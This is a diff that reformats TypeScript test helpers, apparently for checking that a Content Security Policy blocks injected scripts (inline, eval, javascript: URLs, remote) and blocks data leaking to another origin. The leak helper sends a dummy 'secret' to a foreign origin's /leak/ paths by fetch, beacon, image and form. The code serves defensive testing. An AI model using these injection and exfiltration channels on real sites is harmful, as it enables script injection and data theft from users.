@@ -13,7 +13,14 @@ export interface Violation {
 
 export interface InjectionOutcome {
   /** What ran: each injection sets its own flag on window when it runs. */
-  ran: { inlineScript: boolean; inlineHandler: boolean; javascriptUrl: boolean; evalString: boolean; newFunction: boolean; remoteScript: boolean };
+  ran: {
+    inlineScript: boolean;
+    inlineHandler: boolean;
+    javascriptUrl: boolean;
+    evalString: boolean;
+    newFunction: boolean;
+    remoteScript: boolean;
+  };
   violations: Violation[];
 }
 
@@ -27,11 +34,14 @@ export function injectScripts(remoteScriptUrl: string): Promise<InjectionOutcome
   type Flags = Record<string, boolean | undefined>;
   const flags = window as unknown as Flags;
   const violations: Violation[] = [];
-  document.addEventListener('securitypolicyviolation', (event) => violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
+  document.addEventListener('securitypolicyviolation', (event) =>
+    violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
+  );
   const nextTask = () => new Promise((resolve) => setTimeout(resolve, 0));
   /** Until the flag is set or a new violation came, at most 3 s: for what runs, or is refused, a task later. */
   const decided = async (flag: string, violationsBefore: number) => {
-    for (let waited = 0; waited < 3_000 && !flags[flag] && violations.length === violationsBefore; waited += 10) await new Promise((resolve) => setTimeout(resolve, 10));
+    for (let waited = 0; waited < 3_000 && !flags[flag] && violations.length === violationsBefore; waited += 10)
+      await new Promise((resolve) => setTimeout(resolve, 10));
   };
 
   return new Promise<InjectionOutcome>((resolve) =>
@@ -92,11 +102,17 @@ export function injectScripts(remoteScriptUrl: string): Promise<InjectionOutcome
 }
 
 /** Try to send data to another origin with fetch, a beacon, an image and a form; the violations seen (at most 3 s for the three kinds). */
-export async function sendToOtherOrigin(foreignOrigin: string): Promise<{ fetchFailed: boolean; violations: Violation[] }> {
+export async function sendToOtherOrigin(
+  foreignOrigin: string,
+): Promise<{ fetchFailed: boolean; violations: Violation[] }> {
   const violations: Violation[] = [];
-  document.addEventListener('securitypolicyviolation', (event) => violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
+  document.addEventListener('securitypolicyviolation', (event) =>
+    violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
+  );
   let fetchFailed = false;
-  await fetch(`${foreignOrigin}/leak/fetch?secret=1`, { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(() => (fetchFailed = true));
+  await fetch(`${foreignOrigin}/leak/fetch?secret=1`, { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(
+    () => (fetchFailed = true),
+  );
   navigator.sendBeacon(`${foreignOrigin}/leak/beacon`, 'secret');
   const image = document.createElement('img');
   image.src = `${foreignOrigin}/leak/image.png?secret=1`;
@@ -111,7 +127,11 @@ export async function sendToOtherOrigin(foreignOrigin: string): Promise<{ fetchF
   document.body.append(form);
   form.submit();
   const seen = () => new Set(violations.map((violation) => violation.directive));
-  for (let waited = 0; waited < 3_000 && !['connect-src', 'img-src', 'form-action'].every((directive) => seen().has(directive)); waited += 10) {
+  for (
+    let waited = 0;
+    waited < 3_000 && !['connect-src', 'img-src', 'form-action'].every((directive) => seen().has(directive));
+    waited += 10
+  ) {
     await new Promise((resolve) => setTimeout(resolve, 10));
   }
   image.remove();
